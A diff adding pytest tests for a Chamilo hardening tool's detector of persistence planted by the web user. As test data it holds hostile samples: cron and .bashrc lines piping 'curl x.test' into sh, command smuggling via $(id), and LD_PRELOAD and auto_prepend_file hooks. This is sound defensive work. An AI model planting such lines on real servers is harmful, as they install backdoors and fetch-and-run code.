@@ -1,0 +1,365 @@
+# Copyright (c) 2026, the chamilo.hardening maintainers
+# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+"""What is planted outside the tree with the web user's rights; the host is that of test_monitoring.py."""
+
+from __future__ import annotations
+
+import os
+import re
+
+import pytest
+
+from ansible_collections.chamilo.hardening.plugins.module_utils._monitoring import persistence
+from ansible_collections.chamilo.hardening.plugins.module_utils._monitoring.compromise import trace
+from ansible_collections.chamilo.hardening.plugins.module_utils._portal import processes as portal_processes
+from ansible_collections.chamilo.hardening.plugins.module_utils._portal.processes import Job, Process
+from tests.unit.plugins.module_utils._audit.test_monitoring import WEB, Host
+
+CRONTAB = "/var/spool/cron/crontabs/www-data:1"
+ROOT, OTHER = 0, 1000
+
+
+@pytest.fixture
+def host(tmp_path, monkeypatch):
+    found = Host(tmp_path, monkeypatch)
+    found.home = tmp_path / "home"
+    found.home.mkdir()
+    found.spool = tmp_path / "spool"
+    found.spool.mkdir()
+    monkeypatch.setattr(persistence, "CRONTABS", (str(found.spool),))
+    monkeypatch.setattr(persistence, "_LINGER", str(tmp_path / "linger"))
+    monkeypatch.setattr(persistence, "_OTHER_CRONS", (str(tmp_path / "incron"),))
+    monkeypatch.setattr(persistence, "_SKELETON", str(tmp_path / "skel"))
+    monkeypatch.setattr(persistence, "_SSHD", (str(tmp_path / "sshd_config"),))
+    monkeypatch.setattr(persistence, "_OF_ROOT", (str(tmp_path / "etc-of-root"),))
+    monkeypatch.setattr(persistence, "_AT", (str(tmp_path / "at/*"),))
+    monkeypatch.setattr(persistence, "_PRELOAD", str(tmp_path / "ld.so.preload"))
+    monkeypatch.setattr(persistence, "_PHP_FILES", (str(tmp_path / "php.ini"),))
+    monkeypatch.setattr(persistence, "_UNITS", (str(tmp_path / "units/*.service"),))
+    # The tests are at home in /tmp.
+    monkeypatch.setattr(persistence, "_FETCHES", re.compile("curl|wget"))
+    monkeypatch.setattr(persistence, "LOOSE", tuple(set(persistence.LOOSE) - {"/tmp/"}))
+    return found
+
+
+def theirs(path, text="x"):
+    """A file of the web user's."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+    os.chown(path, WEB, WEB)
+    return path
+
+
+# ------------------------------------------------------------------------------------------------- cron
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "* * * * * php {root}/bin/console app:send-scheduled-announcements",
+        "*/5 * * * * /usr/bin/php8.3 {root}/bin/console messenger:consume async --time-limit=3600 --env=prod",
+        "@daily {root}/bin/console chamilo:oauth:gc >/dev/null 2>&1",
+        "17 4 * * 0\tphp -d memory_limit=-1 {root}/bin/console app:file-integrity:scan >> {root}/var/log/scan.log 2>&1",
+        "*/10 * * * * cd {root} && php bin/console app:send-scheduled-announcements --no-interaction",
+        "@hourly php {root}/bin/console cache:pool:prune",
+    ],
+)
+def test_cron_lines_that_chamilo_documents_are_no_signs(host, line):
+    host.jobs.append(Job(CRONTAB, line.format(root=host.root)))
+    (host.spool / "www-data").write_text(f"# mine\n\nMAILTO=admin@school.example\nPATH=/usr/bin:/bin\n{line}\n")
+    assert trace(host.look()).signs == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "* * * * * php /srv/x.php # bin/console",
+        "* * * * * /srv/x # {root}/bin/console app:x",
+        "* * * * * php {root}/bin/console app:x; curl -s http://x.test | sh",
+        "* * * * * php {root}/bin/console app:x $(id)",
+        "* * * * * php {root}/bin/console app:x | sh",
+        "* * * * * php {root}/bin/console app:x & /srv/x",
+        "* * * * * php -d auto_prepend_file=/srv/x {root}/bin/console app:x",
+        "* * * * * php -r 'x();' {root}/bin/console app:x",
+        "* * * * * php {root}/bin/console dbal:run-sql 'UPDATE user SET roles = 1'",
+        "* * * * * php {root}/bin/console app:file-integrity:baseline",
+        "* * * * * php {root}/bin/console chamilo:update:apply-files /srv/x",
+        "* * * * * php {root}/bin/console app:x > {root}/public/x.php",
+        "* * * * * php {root}/var/bin/console app:x",
+        "* * * * * php /srv/other/bin/console app:x",
+        "* * * * * cd /srv && php bin/console app:x",
+        "* * * * * PHPRC=/srv php {root}/bin/console app:x",
+        "* * * * * php {root}/bin/console app:x%curl http://x.test",
+        "* * * * * php {root}/bin/console app:x\u2028",
+        "* * * * * php {root}/bin/console app:x\x0c; curl -s http://x.test | sh",
+        "* * * * * cd /var/www/shop && php artisan schedule:run",
+    ],
+)
+def test_a_cron_line_that_merely_contains_the_console(host, line):
+    host.jobs.append(Job(CRONTAB, line.format(root=host.root)))
+    (sign,) = trace(host.look()).signs
+    assert sign.startswith("a cron job of the web user (/var/spool/cron/crontabs/www-data, line 1)")
+    assert "move it into /etc/cron.d" in sign and sign.isprintable()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "SHELL=/srv/x",
+        "PATH=/srv/x:/usr/bin",
+        "PATH=/usr/bin:/tmp",
+        "LD_PRELOAD=/srv/x.so",
+        "BASH_ENV=/srv/x",
+        "PHP_INI_SCAN_DIR=/srv",
+        ' "PHPRC" = /srv',
+        "~ * * * * /srv/x",
+        "-* * * * * /srv/x",
+    ],
+)
+def test_what_a_crontab_sets_is_judged_as_well(host, line):
+    (host.spool / "www-data").write_text(f"# mine\n{line}\n* * * * * php {host.root}/bin/console app:x\n")
+    (sign,) = trace(host.look()).signs
+    assert f"({host.spool}/www-data, line 2)" in sign and line.strip() in sign
+
+
+def test_many_lines_fill_no_report(host):
+    host.jobs += [Job(CRONTAB, f"* * * * * /srv/x{number}") for number in range(9000)]
+    signs = trace(host.look()).signs
+    assert len(signs) == 6 and "8995 more lines" in signs[-1]
+
+
+def test_a_crontab_has_no_end_that_is_not_read(host, monkeypatch):
+    monkeypatch.setattr(persistence, "CRON_LIMIT", 1000)
+    (host.spool / "www-data").write_text("#\n" * 600 + "* * * * * /srv/x\n")
+    (sign,) = trace(host.look()).signs
+    assert "too long to be read" in sign
+
+
+def test_a_line_ends_where_cron_ends_it(tmp_path, monkeypatch):
+    monkeypatch.setattr(portal_processes, "CRONTABS", (str(tmp_path),))
+    (tmp_path / "www-data").write_bytes(b"* * * * * php x\x0c; curl x.test\x85\r; sh\n@daily y\n")
+    found = [job.command for job in portal_processes._cron(True) if str(tmp_path) in job.source]
+    assert found == ["* * * * * php x\x0c; curl x.test\ufffd\r; sh", "@daily y"]
+
+
+@pytest.mark.parametrize(
+    ("source", "line", "told"),
+    [
+        ("/etc/cron.d/shop:1", "* * * * * root php {www}/cron.php", True),
+        ("/etc/cron.d/shop:1", "* * * * * root cd {www} && nice -n 10 /usr/bin/php -q {www}/cron.php", True),
+        ("/etc/cron.d/shop:1", "@daily deploy flock -n /run/lock/x sh -c 'exec {www}/cron.php'", True),
+        ("/etc/crontab:9", "1 1 * * * root {www}/gone.sh", True),
+        ("/var/spool/cron/crontabs/root:1", "* * * * * bash {www}/cron.php", True),
+        ("/etc/cron.daily/shop", "#!/bin/sh\n# a comment\ntest -e /x || exit 0\n. {www}/cron.php\n", True),
+        # What runs with the web user's own rights gains nothing, and root alone can have written it.
+        ("/etc/cron.d/shop:1", "* * * * * www-data php {www}/cron.php", False),
+        ("/etc/cron.d/shop:1", "* * * * * www-data cd {www} && php artisan schedule:run >> /dev/null 2>&1", False),
+        ("/etc/cron.d/x:1", "*/5 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1", False),
+        (
+            "/etc/cron.d/php:1",
+            "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
+            False,
+        ),
+        ("/etc/crontab:17", "17 * * * * root cd / && run-parts --report /etc/cron.hourly", False),
+        ("/etc/cron.d/x:1", "@daily root chamilo-hardening backup --quiet --site campus", False),
+        ("/etc/cron.d/x:1", "@daily root php {root}/bin/console app:x --env=prod", False),
+        ("/etc/cron.daily/x", "#!/bin/sh\n# {www}/cron.php\ncase $1 in {www}/*) ;; esac\ntrue {www}/cron.php\n", False),
+    ],
+)
+def test_what_others_run_and_the_web_user_can_change(host, tmp_path, source, line, told):
+    www = theirs(tmp_path / "shop/cron.php").parent
+    os.chown(www, WEB, WEB)
+    os.chown(theirs(host.root / "bin/console"), WEB, WEB)
+    host.jobs.append(Job(source, line.format(www=www, root=host.root)))
+    signs = [sign for sign in trace(host.look()).signs if not sign.endswith("vouches for: bin/console")]
+    assert [sign.startswith("a cron job of another account") for sign in signs] == [True] * told
+
+
+# ------------------------------------------------------------------------------------------------- homes and places
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (".ssh/authorized_keys", "ssh-ed25519 AAAA"),
+        (".ssh/authorized_keys.d/x", ""),
+        ("keys/www-data", "ssh-ed25519 AAAA"),
+        (".rhosts", "+ +"),
+        (".config/systemd/user/x.timer", "[Timer]"),
+        (".config/systemd/user/dbus.service.d/x.conf", "[Service]"),
+        (".local/share/systemd/user/x.path", "[Path]"),
+        (".config/autostart/x.desktop", "[Desktop Entry]"),
+        (".bashrc", "curl x.test | sh"),
+        (".profile", "curl x.test | sh"),
+        (".forward", '"|/srv/x"'),
+        (".pam_environment", "LD_PRELOAD=/srv/x"),
+        (".config/environment.d/x.conf", "LD_PRELOAD=/srv/x"),
+        (".gitconfig", "[core]\n\tfsmonitor = /srv/x"),
+        (".config/git/config", "[alias]\n  st = !/srv/x"),
+    ],
+)
+def test_ways_back_in_a_home(host, tmp_path, path, text):
+    (tmp_path / "sshd_config").write_text("Match User x\n  AuthorizedKeysFile %h/keys/%u .ssh/authorized_keys.d/x\n")
+    theirs(host.home / path, text or "k")
+    (sign,) = trace(host.look()).signs
+    assert path in sign
+
+
+def test_innocent_files_in_a_home(host, tmp_path):
+    skeleton = tmp_path / "skel"
+    skeleton.mkdir()
+    (skeleton / ".bashrc").write_text("# as the distribution has it")
+    theirs(host.home / ".bashrc", "# as the distribution has it")
+    (host.home / ".profile").write_text("umask 027  # the administrator's")
+    theirs(host.home / ".gitconfig", "[user]\n\tname = Deploy\n[safe]\n\tdirectory = /srv/campus\n")
+    theirs(host.home / "html/index.html")
+    assert trace(host.look()).signs == []
+
+
+@pytest.mark.parametrize("place", ["linger", "incron"])
+def test_a_users_manager_that_outlives_its_session_and_other_tables(host, tmp_path, place):
+    (tmp_path / place).mkdir()
+    (tmp_path / place / "www-data").touch()
+    (tmp_path / place / "deploy").touch()
+    (sign,) = trace(host.look()).signs
+    assert f"{place}/www-data" in sign and "deploy" not in sign
+
+
+@pytest.mark.parametrize("place", ["at/a0001", "etc-of-root/cron.d/x", "etc-of-root/profile.d/x.sh"])
+def test_files_of_the_web_user_that_others_run(host, tmp_path, place):
+    theirs(tmp_path / place)
+    (sign,) = trace(host.look()).signs
+    assert place in sign
+
+
+def test_a_masked_unit_and_a_file_of_roots_are_no_signs(host, tmp_path):
+    folder = tmp_path / "etc-of-root/systemd/system"
+    folder.mkdir(parents=True)
+    (folder / "x.service").symlink_to("/dev/null")
+    (folder / "y.service").write_text("[Service]")
+    assert trace(host.look()).signs == []
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("ld.so.preload", "{library}\n"),
+        ("php.ini", "; x\nauto_prepend_file = {library}\n"),
+        ("php.ini", 'extension="{library}"\n'),
+        ("units/x.service", "[Service]\nExecStart=/bin/sh -c '. {library}'\n"),
+        ("units/x.service", "[Service]\nUser=deploy\nExecStartPre=-/usr/bin/php -q {library}\n"),
+    ],
+)
+def test_a_file_of_the_web_user_that_is_loaded_or_started(host, tmp_path, path, text):
+    library = theirs(tmp_path / "lib/x")
+    (tmp_path / path).parent.mkdir(exist_ok=True)
+    (tmp_path / path).write_text(text.format(library=library))
+    (sign,) = trace(host.look()).signs
+    assert path in sign or str(library) in sign
+
+
+def test_a_worker_with_the_web_users_own_rights_is_no_sign(host, tmp_path):
+    script = theirs(tmp_path / "shop/artisan")
+    (tmp_path / "units").mkdir()
+    (tmp_path / "units/queue.service").write_text(
+        f"[Service]\nUser=www-data\nExecStart=/usr/bin/php {script} queue:work\n"
+    )
+    assert trace(host.look()).signs == []
+
+
+# ------------------------------------------------------------------------------------------------- processes
+
+FPM, PHP = "/usr/sbin/php-fpm8.4", "/usr/bin/php8.4"
+
+
+@pytest.fixture
+def running(host, monkeypatch):
+    """Adds a process; ``of``: its parent, ``unit``: where systemd has it."""
+    programs, units, ages, commands = {}, {}, {}, {}
+    real = os.readlink
+    monkeypatch.setattr(persistence.os, "readlink", lambda path, **more: programs.get(path) or real(path, **more))
+    monkeypatch.setattr(persistence, "units_of", lambda pid: units.get(pid, []))
+    monkeypatch.setattr(persistence, "main_process", lambda unit: {"queue.service": 70}.get(unit, 0))
+    monkeypatch.setattr(persistence, "age", lambda pid: ages.get(pid, 5.0))
+    monkeypatch.setattr(persistence, "arguments", lambda pid: commands[pid])
+
+    def add(pid, of, program, user=WEB, unit="", hours=0, command=""):
+        host.processes.append(Process(pid, of, os.path.basename(program)[:15], user))
+        programs[f"/proc/{pid}/exe"], units[pid] = program, unit.split()
+        ages[pid], commands[pid] = hours * 3600 + 5.0, command
+
+    add(40, 1, FPM, ROOT, "php8.4-fpm.service")
+    add(41, 40, FPM, unit="php8.4-fpm.service", hours=99)
+    add(42, 1, "/usr/sbin/nginx", ROOT, "nginx.service")
+    add(43, 42, "/usr/sbin/nginx (deleted)", unit="nginx.service", hours=99)
+    add(45, 1, "/usr/sbin/cron", ROOT, "cron.service")
+    add(46, 45, "/usr/sbin/cron", ROOT, "cron.service")
+    add(47, 1, "/usr/bin/supervisord", ROOT, "supervisor.service")
+    return add
+
+
+@pytest.mark.parametrize(
+    "strange",
+    [
+        {"of": 1, "unit": "php8.4-fpm.service"},  # php -r, put into the background by a page
+        {"of": 1, "unit": "php8.4-fpm.service", "program": FPM},  # a server of its own
+        {"of": 1, "unit": "cron.service"},
+        {"of": 1, "unit": "queue.service"},  # out of another service of the same user
+        {"of": 1, "unit": "session-4.scope"},
+        {"of": 1},  # no systemd here
+        {"of": 41, "unit": "php8.4-fpm.service", "hours": 2},  # it goes on below a worker
+        {"of": 46, "unit": "cron.service", "hours": 2, "command": "php -r while(1);"},  # its line is gone
+    ],
+)
+def test_a_daemon_of_the_web_user(host, running, strange):
+    running(**{"pid": 60, "program": PHP, **strange})
+    (sign,) = trace(host.look()).signs
+    assert sign.startswith("a process of the web user that is no server") and "(process 60," in sign
+
+
+def test_workers_and_what_they_start_are_no_daemons(host, running):
+    running(50, 41, "/usr/bin/convert", unit="php8.4-fpm.service")
+    running(51, 50, "/usr/bin/gs", unit="php8.4-fpm.service")
+    running(
+        52, 46, "/usr/bin/dash", unit="cron.service", hours=9, command=f"php {host.root}/bin/console messenger:consume"
+    )
+    running(53, 52, PHP, unit="cron.service", hours=9)
+    running(54, 47, PHP, unit="supervisor.service", hours=99)
+    running(70, 1, PHP, unit="queue.service", hours=99)
+    running(71, 70, PHP, unit="queue.service", hours=99)
+    running(72, 999, PHP, hours=99)  # from outside of the container
+    host.jobs.append(Job(CRONTAB, f"@hourly  php {host.root}/bin/console  messenger:consume"))
+    assert trace(host.look()).signs == []
+
+
+def test_the_first_process_of_a_container_may_start_services_itself(host, running):
+    host.processes[0] = Process(1, 0, "supervisord", ROOT)
+    running(60, 1, PHP, hours=99)
+    assert trace(host.look()).signs == []
+    running(61, 1, "/usr/bin/bash")
+    (sign,) = trace(host.look()).signs
+    assert "(process 61," in sign and "(process 60," not in sign
+
+
+def test_what_a_users_manager_starts(host, running):
+    running(80, 1, "/usr/lib/systemd/systemd", unit="user@33.service init.scope", hours=99)
+    running(81, 80, "/usr/lib/systemd/systemd-executor", unit="user@33.service init.scope", hours=99)  # (sd-pam)
+    running(82, 80, "/usr/bin/dbus-daemon", unit="user@33.service dbus.service", hours=99)
+    assert trace(host.look()).signs == []
+    running(83, 80, PHP, unit="user@33.service x.service")
+    (sign,) = trace(host.look()).signs
+    assert "(process 83," in sign
+
+
+def test_where_and_for_how_long_a_process_runs(monkeypatch):
+    monkeypatch.setattr(
+        persistence, "head", lambda path, _size: b"0::/user.slice/user-33.slice/user@33.service/x.service\n"
+    )
+    assert persistence.units_of(1) == ["user@33.service", "x.service"]
+    monkeypatch.undo()
+    assert 0 <= persistence.age(os.getpid()) < 3 * 86400
+    assert persistence.age(2**22 + 1) == 0.0
+    assert "pytest" in persistence.arguments(os.getpid())
+    assert persistence.units_of(2**22 + 1) == []
